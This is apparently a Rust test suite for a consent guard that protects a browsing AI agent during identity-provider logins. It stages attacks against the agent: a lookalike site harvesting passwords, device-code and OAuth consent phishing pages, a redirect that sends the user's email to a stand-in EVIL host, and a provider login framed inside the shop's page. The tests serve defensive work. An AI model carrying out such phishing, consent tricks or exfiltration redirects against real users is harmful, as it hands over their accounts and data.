//! Attacks on a login at an identity provider. Each succeeds without the guard.

use portcullis::consent::Answer;

use crate::agent::{EMAIL, PASSWORD, Step, account, guarded, guarded_on, unguarded};
use crate::provider::{LOGIN, back, both, shop, sign_on_questions, with};
use crate::sites::{Answer as Page, Asked, EVIL, LOOKALIKE, PROVIDER, SHOP, Sites};

/// What an agent without a guard does for the login.
const TYPED: [Step; 5] = [
    Step::Open("https://shop.test/"),
    Step::Click("Log in with ID"),
    Step::Type("\"Email\"", EMAIL),
    Step::Type("\"Password\"", PASSWORD),
    Step::Click("button \"Log in\""),
];

fn typed_and(more: &[Step]) -> Vec<Step> {
    TYPED.iter().chain(more).copied().collect()
}

fn agrees(_: &str) -> Answer {
    Answer::Session
}

#[tokio::test(flavor = "multi_thread")]
async fn a_site_whose_name_looks_like_the_providers_is_not_asked_about_and_gets_nothing() {
    let sites = Sites::set_up().await;
    let served = |asked: &Asked| match asked.host.as_str() {
        "shop.test" => shop(asked, LOOKALIKE),
        _ => Page::Page(LOGIN.to_owned()),
    };
    sites.serve(served);
    unguarded(&sites, &TYPED).await;
    assert!(sites.has(LOOKALIKE, PASSWORD), "the attack does not work: {:?}", sites.arrived_at(LOOKALIKE));
    sites.serve(served);
    let run = guarded(&sites, &account("login:id", PROVIDER), &with(&[Step::Read]), agrees).await;
    assert!(run.answers[1].contains("outside_task"), "{run:#?}");
    assert_eq!((sites.arrived_at(LOOKALIKE).len(), sign_on_questions(&run).len()), (0, 0), "{run:#?}");
    sites.browser.close().await;
}

const DEVICE: &str = "<h1>Allow Evil Television to use your account?</h1><p>It will read your mail.</p>\
    <form method=post action=/device/allow><input type=hidden name=code value=WDJB-MJHT><button>Allow</button></form>\
    <form method=post action=/device/enter><label>Enter the code <input name=code></label><button>Go on</button></form>";

fn with_device(asked: &Asked) -> Page {
    match asked.path.as_str() {
        "/device" => Page::Page(DEVICE.to_owned()),
        "/device/allow" => Page::Page("<h1>Connected</h1>".to_owned()),
        _ => back(""),
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_device_is_not_connected_unless_the_user_saw_the_page_and_agreed() {
    let sites = Sites::set_up().await;
    let more = [Step::Click("Set up a television"), Step::Click("button \"Allow\""), Step::Read];
    let allowed = || sites.arrived_at(PROVIDER).iter().any(|it| it.path == "/device/allow");
    sites.serve(both(with_device));
    unguarded(&sites, &typed_and(&more)).await;
    assert!(allowed(), "the attack does not work");
    for agreed in [false, true] {
        sites.serve(both(with_device));
        let user = move |question: &str| {
            if question.contains("let the agent press") && !agreed { Answer::No } else { Answer::Session }
        };
        let run = guarded(&sites, &account("login:id", PROVIDER), &with(&more), user).await;
        assert_eq!(allowed(), agreed, "{run:#?}");
        let pressed =
            run.questions.iter().find(|question| question.contains("let the agent press \"Allow\"")).unwrap();
        for words in [
            "this is not the login for https://shop.test",
            "it sends a form to https://id.test/device/allow",
            "Allow Evil Television to use your account?",
            "It will read your mail.",
        ] {
            assert!(pressed.contains(words), "{words}: {pressed}");
        }
        assert_eq!(run.answers[5].contains("consent_denied"), !agreed, "{run:#?}");
    }
    // The code cannot be typed either.
    sites.serve(both(with_device));
    let typed = [
        Step::Click("Set up a television"),
        Step::Type("Enter the code", "WDJB-MJHT"),
        Step::Click("\"Go on\""),
    ];
    let user =
        |question: &str| if question.contains("let the agent press") { Answer::No } else { Answer::Session };
    let run = guarded(&sites, &account("login:id", PROVIDER), &with(&typed), user).await;
    assert!(run.answers[5].starts_with("DENY.verb"), "{run:#?}");
    assert!(!sites.arrived_at(PROVIDER).iter().any(|it| it.path == "/device/enter"), "{run:#?}");
    sites.browser.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_app_gets_no_access_unless_the_user_saw_the_page_and_agreed() {
    let sites = Sites::set_up().await;
    let consent = |asked: &Asked| {
        match asked.path.as_str() {
        "/session" => Page::Page(
            "<h1>Shop wants to read your mail</h1><form method=post action=/consent><button>Allow</button></form>"
                .to_owned(),
        ),
        _ => back(""),
    }
    };
    let more = [Step::Click("button \"Allow\""), Step::Read];
    let allowed = || sites.arrived_at(PROVIDER).iter().any(|it| it.path == "/consent");
    sites.serve(both(consent));
    unguarded(&sites, &typed_and(&more)).await;
    assert!(allowed(), "the attack does not work");
    for agreed in [false, true] {
        sites.serve(both(consent));
        let user = move |question: &str| {
            if question.contains("let the agent press") && !agreed { Answer::No } else { Answer::Session }
        };
        let run = guarded(&sites, &account("login:id", PROVIDER), &with(&more), user).await;
        assert_eq!(allowed(), agreed, "{run:#?}");
        assert_eq!(run.last().contains("Welcome back"), agreed, "{run:#?}");
        let pressed = sign_on_questions(&run);
        assert!(pressed.last().unwrap().contains("Shop wants to read your mail"), "{run:#?}");
        assert_eq!(run.questions.len(), 3, "the plan, the provider, the app: {run:#?}");
    }
    sites.browser.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_provider_cannot_be_used_to_send_the_address_to_a_third_site() {
    let sites = Sites::set_up().await;
    let leaks = |_: &Asked| Page::To(format!("{EVIL}/?e={EMAIL}"));
    sites.serve(both(leaks));
    unguarded(&sites, &TYPED).await;
    assert!(sites.has(EVIL, EMAIL), "the attack does not work");
    sites.serve(both(leaks));
    let run = guarded(&sites, &account("login:id", PROVIDER), &with(&[Step::Read]), agrees).await;
    assert!(run.answers[2].starts_with("GRANT.login"), "{run:#?}");
    assert_eq!(sites.arrived_at(EVIL).len(), 0, "{run:#?}");
    assert_eq!(sign_on_questions(&run).len(), 1, "a provider leads to no further provider: {run:#?}");
    sites.browser.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_provider_in_a_frame_of_the_site_gets_nothing() {
    let sites = Sites::set_up().await;
    let framed = |asked: &Asked| match (asked.host.as_str(), asked.path.as_str()) {
        ("shop.test", "/framed") => Page::Page(format!(
            "<h1>Log in here</h1><iframe src={PROVIDER}/authorize width=600 height=400></iframe>"
        )),
        ("shop.test", _) => shop(asked, PROVIDER),
        (_, "/session") => Page::Page("<h1>Logged in</h1>".to_owned()),
        _ => Page::Page(LOGIN.to_owned()),
    };
    let steps = [
        Step::Open("https://shop.test/framed"),
        Step::See("\"Password\""),
        Step::Type("\"Email\"", EMAIL),
        Step::Type("\"Password\"", PASSWORD),
        Step::Click("button \"Log in\""),
    ];
    sites.serve(framed);
    unguarded(&sites, &steps).await;
    assert!(sites.has(PROVIDER, PASSWORD), "the attack does not work");
    // Before the user agreed to the provider, and after.
    for agreed in [false, true] {
        sites.serve(framed);
        let (open, ask) =
            (Step::Open("https://shop.test/framed"), Step::Ask("login fields=[\"email\",\"password\"]"));
        let before = [Step::Open("https://shop.test/"), Step::Click("Log in with ID")];
        let before = if agreed { &before[..] } else { &[] };
        let steps: Vec<Step> = before.iter().chain(&[open, ask]).copied().collect();
        let run = guarded(&sites, &account("login:id", PROVIDER), &steps, agrees).await;
        assert!(run.last().starts_with("DENY.login"), "{run:#?}");
        assert!(!sites.has(PROVIDER, PASSWORD) && !sites.has(SHOP, PASSWORD), "{run:#?}");
        assert_eq!(sign_on_questions(&run).len(), usize::from(agreed), "{run:#?}");
    }
    sites.browser.close().await;
}

/// An agent that names the provider in its plan gets a site like any other, and no way back.
#[tokio::test(flavor = "multi_thread")]
async fn an_agents_plan_makes_no_provider() {
    let sites = Sites::set_up().await;
    sites.serve(both(|_| back("")));
    let steps = with(&[Step::Read]);
    let run = guarded_on(&sites, &[SHOP, PROVIDER], &account("login:id", PROVIDER), &steps, agrees).await;
    assert!(run.questions[0].contains("the agent chose these sites"), "{run:#?}");
    assert_eq!(sign_on_questions(&run).len(), 0, "{run:#?}");
    let arrived = sites.arrived_at(SHOP);
    assert!(!arrived.iter().any(|it| it.path == "/callback"), "{run:#?} {arrived:?}");
    sites.browser.close().await;
}
